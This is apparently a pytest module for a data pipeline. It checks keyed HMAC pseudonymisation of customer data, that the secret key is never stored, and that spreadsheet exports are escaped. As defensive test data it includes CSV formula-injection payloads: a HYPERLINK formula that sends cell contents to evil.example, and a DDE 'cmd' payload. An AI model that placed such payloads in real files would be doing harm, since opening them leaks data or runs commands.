"""Secrets, personal data and safe exports (issue 14, parts 3, 4 and 7).

The pseudonym key comes from the environment only and is never stored: not in
Dagster's run storage or the UI's view of the code, not in the warehouse, not
in logs. Pseudonyms are HMAC-SHA256, so without the key a list of candidate
customer ids finds nothing. Personal columns of a mapped export (name, street,
zip, phone) are pseudonymised in quarantine like the e-mail. The quarantine
export is safe to open in a spreadsheet, and a fixed file still comes back.
"""
from __future__ import annotations

import datetime as dt

import hashlib
import hmac
import json
import logging
import re
import shutil
import uuid
from datetime import date
from pathlib import Path

import dagster as dg
import duckdb
import pandas as pd
import pytest

from crossdock.settings import DEMO_CONFIGS, DEMO_PII_SALT, PATH_VARIABLES, PII_SALT_VARIABLE, Settings, pii_salt_warning
from crossdock.spreadsheet import escape_cell, spreadsheet_safe, unescape_cell
from feed_files import ORDERS_HEADER, conn, write  # noqa: F401 (conn is a pytest fixture)
from feeds.ingest import ingest_feed
from feeds.mapping import MappingError, load_mapping, shipped_mapping
from feeds.quarantine import export_quarantine, fix_file_name, open_quarantine
from feeds.row_checks import keyed_hash, unescaped, use_pii_key

SHOPIFY_EXPORT = Path(__file__).parent / "fixtures" / "mapping" / "shopify_orders_export.csv"
PSEUDONYM = re.compile(r"^sha256:[0-9a-f]{64}$")
# what the pos sale of the Shopify fixture (quarantined: channel pos) says about Eve
EVE = ("Eve Jansen", "Prinsengracht 1", "1015 DK", "eve@example.nl")


def hmac_hex(key: str, value: str) -> str:
    return hmac.new(key.encode("utf-8"), value.encode("utf-8"), hashlib.sha256).hexdigest()


def places_holding(conn: duckdb.DuckDBPyConnection, needle: str) -> list[str]:
    """Every schema.table.column of the warehouse whose text holds `needle` (case-insensitive)."""
    columns = conn.execute(
        "select table_schema, table_name, column_name from information_schema.columns "
        "where table_catalog = current_database() and table_schema not in ('information_schema', 'pg_catalog')"
    ).fetchall()
    found = []
    for schema, table, column in columns:
        hits = conn.execute(
            f'select count(*) from "{schema}"."{table}" where cast("{column}" as varchar) ilike ?', [f"%{needle}%"]
        ).fetchall()[0][0]
        if hits:
            found.append(f"{schema}.{table}.{column}")
    return found


# --------------------------------------------------------------------------- keyed pseudonyms


@pytest.mark.parametrize("key", ["k", "x" * 64, "a much longer key than one SHA-256 block of sixty-four bytes, hashed first", "clé-ünï😀"])
def test_the_sql_pseudonym_is_hmac_sha256_of_the_value_under_the_key(key):
    values = ["alice@example.com", "", "Zoë Ålborg 😀", "sha256:not-a-pseudonym"]
    with duckdb.connect() as c:
        use_pii_key(c, key)
        got = [c.execute(f"select {keyed_hash('?')}", [v]).fetchall()[0][0] for v in values]
    assert got == [hmac_hex(key, v) for v in values]


def test_no_sql_text_holds_the_key_and_the_warehouse_file_keeps_nothing_of_it(tmp_path):
    key = f"key-{uuid.uuid4().hex}"
    with duckdb.connect(str(tmp_path / "w.duckdb")) as c:
        use_pii_key(c, key)
        assert key not in keyed_hash("v")
        c.execute(f"create table t as select {keyed_hash(repr('alice'))} as h")
    with duckdb.connect(str(tmp_path / "w.duckdb")) as c:  # a new connection: the temp key table is gone
        assert c.execute("select count(*) from duckdb_tables() where table_name = '_pii_key'").fetchall() == [(0,)]
        assert c.execute("select h from t").fetchall() == [(hmac_hex(key, "alice"),)]


def test_without_the_key_the_50_id_attack_finds_no_customer(tmp_path, conn):
    """Issue 14 part 3: 50 of 50 customer ids were recovered from sha256(salt || id) once the salt was known."""
    key = f"merchant-secret-{uuid.uuid4().hex}"
    ids = [f"customer{i:03d}@example.com" for i in range(50)]
    rows = "".join(f"A{i},1,2025-01-03T10:00:00Z,web,{c},S,1,1,EUR,DE,N\n" for i, c in enumerate(ids))
    write(tmp_path / "landing/orders/orders_2025-01.csv", ORDERS_HEADER + rows)
    ingest_feed(conn, tmp_path / "landing", "orders", key)
    stored = {k for (k,) in conn.execute("select customer_key from raw.orders").fetchall()}
    assert len(stored) == 50

    def hashed(candidates: list[str], how) -> int:
        return len({how(c) for c in candidates} & stored)

    sha = lambda text: hashlib.sha256(text.encode()).hexdigest()  # noqa: E731
    assert hashed(ids, lambda c: sha(DEMO_PII_SALT + c)) == 0  # the former scheme, with the public salt
    assert hashed(ids, sha) == 0
    assert hashed(ids, lambda c: hmac_hex(DEMO_PII_SALT, c)) == 0  # the right scheme, the wrong key
    assert hashed(ids, lambda c: sha(key + c)) == 0  # even the key, but unkeyed hashing
    assert hashed(ids, lambda c: hmac_hex(key, c)) == 50  # only the key holder links them


# --------------------------------------------------------------------------- personal columns


def test_the_shipped_shopify_mapping_marks_names_streets_zips_and_phones_personal():
    personal = set(shipped_mapping("shopify_orders").personal)
    assert {"Billing Name", "Billing Street", "Billing Zip", "Billing Phone", "Shipping Name", "Shipping Street",
            "Shipping Zip", "Shipping Phone", "Phone", "Notes"} <= personal


def test_shopify_names_streets_and_zips_are_pseudonymised_in_quarantine_and_its_export(tmp_path, conn):
    source = tmp_path / "landing/orders/shopify"
    source.mkdir(parents=True)
    shutil.copy(SHOPIFY_EXPORT, source / "orders_export_1.csv")
    (source / "mapping.yaml").write_text("extends: shopify_orders\ncolumns:\n  fulfilment_node: {constant: NL-AMS}\n")
    [result] = ingest_feed(conn, tmp_path / "landing", "orders", "a-long-enough-merchant-key")
    assert result.rows_quarantined >= 1, result
    [record] = [json.loads(r) for (r,) in conn.execute("select record from audit.quarantine where reason like 'channel%'").fetchall()]
    for column in ("Email", "Billing Name", "Billing Street", "Billing City", "Billing Zip", "Shipping Name", "Shipping Street", "Shipping Zip"):
        assert PSEUDONYM.match(record[column]), (column, record[column])
    assert record["Lineitem sku"] and record["Shipping Country"] == "NL"  # what is not personal stays readable
    assert record["Billing Phone"] is None  # empty stays empty, not the pseudonym of nothing
    for value in EVE:
        assert places_holding(conn, value) == [], value

    out = tmp_path / "fix.csv"
    assert export_quarantine(conn, "orders", out) >= 1
    text = out.read_text(encoding="utf-8")
    assert not any(value.lower() in text.lower() for value in EVE)


def test_a_merchant_mapping_adds_personal_columns_to_the_shipped_ones(tmp_path):
    path = write(tmp_path / "shopify/mapping.yaml", "extends: shopify_orders\npersonal: [Gift Message]\n")
    personal = load_mapping(path).personal
    assert "Gift Message" in personal and "Billing Name" in personal
    assert load_mapping(path).personal_columns(["Name", " billing name ", "Gift Message", "Email", "Lineitem sku"]) == [
        " billing name ", "Gift Message", "Email"  # as the file spells them; the e-mail as the customer id's source
    ]


def test_a_personal_column_cannot_feed_a_column_that_is_stored_as_sent(tmp_path):
    path = write(tmp_path / "erp/mapping.yaml", "extends: shopify_orders\npersonal: [Lineitem sku]\n")
    with pytest.raises(MappingError, match=r"personal: 'Lineitem sku' is marked personal but feeds the contract column 'sku'"):
        load_mapping(path)


# --------------------------------------------------------------------------- spreadsheet-safe exports


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"fix me")', '\'=HYPERLINK("http://evil.example/?"&A1,"fix me")'),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-ABC", "'-ABC"),
        ("-2+cmd|' /C calc'!A0", "'-2+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # already quoted once: one more, so the ingest's unquoting gives it back as it was
        ("-2", "-2"),  # plain numbers are numbers in a spreadsheet, never formulas
        ("+1.5", "+1.5"),
        ("-3e2", "-3e2"),
        ("-.5", "-.5"),
        ("Mug - blue", "Mug - blue"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_escaped_and_the_ingest_undoes_it(value, exported):
    assert escape_cell(value) == exported
    assert unescape_cell(exported) == value
    with duckdb.connect() as c:  # the ingest's SQL (which also trims spaces) agrees with the Python rule
        assert c.execute(f"select {unescaped('?')}", [exported]).fetchall() == [(value,)]


def test_numbers_dates_and_headers_of_a_frame():
    frame = pd.DataFrame({"=cmd": ["=1", "ok"], "n": [-2, 3], "when": pd.to_datetime(["2025-01-01", "2025-01-02"])})
    safe = spreadsheet_safe(frame)
    assert list(safe.columns) == ["'=cmd", "n", "when"]
    assert safe["'=cmd"].tolist() == ["'=1", "ok"] and safe["n"].tolist() == [-2, 3]
    assert frame["=cmd"].tolist() == ["=1", "ok"]  # the caller's frame is left alone


def test_the_quarantine_export_is_escaped_and_a_fixed_file_round_trips_negative_quantities(tmp_path, conn):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"fix me")'
    write(
        tmp_path / "landing/orders/orders_2025-01-03.csv",
        ORDERS_HEADER
        + f'A1,1,2025-01-03T10:00:00Z,web,C1,"{formula.replace(chr(34), chr(34) * 2)}",1,1,EUR,Atlantis,N\n'
        + "A2,1,2025-01-03T10:00:00Z,web,C1,-ABC,-2,1,EUR,Atlantis,N\n",  # a return of SKU "-ABC"
    )
    [first] = ingest_feed(conn, tmp_path / "landing", "orders", "salt")
    assert first.rows_quarantined == 2
    fix = tmp_path / "fix.csv"
    assert export_quarantine(conn, "orders", fix) == 2

    exported = pd.read_csv(fix, dtype=str, keep_default_na=False).set_index("order_id")
    assert exported.loc["A1", "sku"] == "'" + formula
    assert (exported.loc["A2", "sku"], exported.loc["A2", "quantity"]) == ("'-ABC", "-2")
    assert not re.search(r"(^|,)[=+@]", fix.read_text(encoding="utf-8"), flags=re.M)

    exported["ship_to_country"] = "DE"  # the fix
    exported.reset_index().to_csv(tmp_path / "landing/orders" / fix_file_name("orders", date(2025, 1, 31)), index=False)
    [_, again] = ingest_feed(conn, tmp_path / "landing", "orders", "salt")
    assert (again.rows_loaded, again.rows_quarantined) == (2, 0)
    assert conn.execute("select order_id, sku, quantity from raw.orders order by order_id").fetchall() == [
        ("A1", formula, 1), ("A2", "-ABC", -2),
    ]
    assert open_quarantine(conn, "orders").empty


# --------------------------------------------------------------------------- the demo salt


@pytest.fixture()
def merchant_config(tmp_path: Path) -> Path:
    return write(tmp_path / "crossdock.yaml", DEMO_CONFIGS[0].read_text(encoding="utf-8").replace("crossdock demo outdoor co.", "Acme"))


def test_a_real_merchant_on_the_demo_salt_is_warned(merchant_config, monkeypatch):
    monkeypatch.delenv(PII_SALT_VARIABLE, raising=False)
    assert "public demo salt" in pii_salt_warning(merchant_config)
    monkeypatch.setenv(PII_SALT_VARIABLE, DEMO_PII_SALT)  # set, but to the published value
    assert "public demo salt" in pii_salt_warning(merchant_config)
    monkeypatch.setenv(PII_SALT_VARIABLE, "short")
    assert "shorter than 16 characters" in pii_salt_warning(merchant_config)
    monkeypatch.setenv(PII_SALT_VARIABLE, uuid.uuid4().hex)
    assert pii_salt_warning(merchant_config) is None


def test_the_demo_merchants_may_use_the_demo_salt_and_no_config_is_no_demo(tmp_path, monkeypatch):
    monkeypatch.delenv(PII_SALT_VARIABLE, raising=False)
    for demo in DEMO_CONFIGS:
        assert pii_salt_warning(demo) is None
    assert pii_salt_warning(tmp_path / "none.yaml") is not None  # `crossdock init` before the config exists


def test_the_summary_carries_the_warning(tmp_path, merchant_config, monkeypatch, capsys):
    from cli.summary import print_summary

    monkeypatch.delenv(PII_SALT_VARIABLE, raising=False)
    settings = Settings.under(tmp_path)
    settings.warehouse.parent.mkdir(parents=True)
    duckdb.connect(str(settings.warehouse)).close()
    print_summary(settings)
    assert "WARNING: customer ids are pseudonymised with the public demo salt" in capsys.readouterr().out
    monkeypatch.setenv(PII_SALT_VARIABLE, uuid.uuid4().hex)
    print_summary(settings)
    assert "WARNING" not in capsys.readouterr().out


# --------------------------------------------------------------------------- the salt is stored nowhere


def _serialized(value: object) -> str:
    from dagster._serdes import serialize_value

    return serialize_value(value)


def _repository_snapshot(defs: dg.Definitions) -> str:
    """What the code server hands the UI (and its GraphQL) about the code: jobs, resources and their config."""
    from dagster._core.remote_representation.external_data import RepositorySnap

    return _serialized(RepositorySnap.from_def(defs.get_repository_def()))


class Leaky(dg.ConfigurableResource):
    """A resource that keeps a secret the way LandingFolder kept pii_salt."""

    secret: str


@dg.asset
def uses(leaky: Leaky) -> None:
    """Needs the leaky resource, so the repository lists it."""


def test_the_repository_snapshot_would_show_a_secret_kept_in_a_resource_field():
    """The check below can fail: a resource field is shown to the UI, as `pii_salt` was."""
    secret = f"leak-{uuid.uuid4().hex}"
    assert secret in _repository_snapshot(dg.Definitions(assets=[uses], resources={"leaky": Leaky(secret=secret)}))


def test_the_salt_is_in_no_run_storage_ui_snapshot_warehouse_or_log(tmp_path, merchant_config, monkeypatch, caplog, capsys):
    from orchestration.defs.automation.jobs import run_tags_for
    from orchestration.lib.run_inputs import all_landing_files
    from orchestration.definitions import build_definitions

    salt = f"salt-{uuid.uuid4().hex}"
    monkeypatch.setenv(PII_SALT_VARIABLE, salt)
    for var in PATH_VARIABLES:
        monkeypatch.delenv(var, raising=False)
    root = tmp_path / "merchant"
    settings = Settings.under(root)
    root.mkdir()
    shutil.copy(merchant_config, settings.config)
    source = settings.landing / "orders/shopify"
    source.mkdir(parents=True)
    shutil.copy(SHOPIFY_EXPORT, source / "orders_export_2024-03.csv")
    (source / "mapping.yaml").write_text("extends: shopify_orders\ncolumns:\n  fulfilment_node: {constant: NL-AMS}\n")
    from dashboard.override_entries import write_override  # a feed with files and no customer id: nothing to warn of

    write_override(settings.landing, "ana", "NL", "week", dt.date(2024, 3, 4), "promotion", units=5.0)
    caplog.set_level(logging.DEBUG)

    defs = build_definitions(settings)
    assert salt not in repr(settings) and salt not in _repository_snapshot(defs)
    home = tmp_path / "dagster_home"
    home.mkdir()
    with dg.instance_for_test(temp_dir=str(home)) as instance:
        job = defs.resolve_job_def("ingest_feeds")
        tags = run_tags_for(all_landing_files(settings.landing))
        result = job.execute_in_process(instance=instance, tags=tags)
        assert result.success
        run = instance.get_run_by_id(result.run_id)
        assert salt not in json.dumps(run.run_config) and salt not in _serialized(run)
        assert salt not in _serialized(instance.get_job_snapshot(run.job_snapshot_id))
        assert not [e for e in instance.all_logs(result.run_id) if salt in _serialized(e)]
        materialized = result.asset_materializations_for_node("ingest_orders")
        assert materialized and all("pii_salt_warning" not in m.metadata for m in materialized)

        # the same merchant without a salt is warned, in the event log and on the materialization
        monkeypatch.delenv(PII_SALT_VARIABLE)
        unsalted = job.execute_in_process(instance=instance, tags=tags)
        [orders] = [m for m in unsalted.asset_materializations_for_node("ingest_orders") if m.asset_key.path == ["raw", "orders"]]
        assert "public demo salt" in orders.metadata["pii_salt_warning"].value
        warned = {e.step_key for e in instance.all_logs(unsalted.run_id) if "public demo salt" in (e.message or "")}
        assert warned == {"ingest_orders"}  # the feed with files (skipped, already loaded), not the empty ones,
        assert unsalted.asset_materializations_for_node("ingest_overrides")  # nor the overrides' files (no customer id)
        assert all("pii_salt_warning" not in m.metadata for m in unsalted.asset_materializations_for_node("ingest_carriers"))
    stored = [p for p in home.rglob("*") if p.is_file() and salt.encode() in p.read_bytes()]
    assert stored == []

    with duckdb.connect(str(settings.warehouse), read_only=True) as conn:
        # the key was used (the e-mail's pseudonym is its HMAC) but is kept nowhere
        keys = {k for (k,) in conn.execute("select customer_key from raw.orders").fetchall()}
        assert hmac_hex(salt, "alice@example.co.uk") in keys
        assert places_holding(conn, salt) == []
    assert salt.encode() not in settings.warehouse.read_bytes()
    logged = caplog.text + "".join(capsys.readouterr())
    assert "ingest" in logged.lower() and salt not in logged
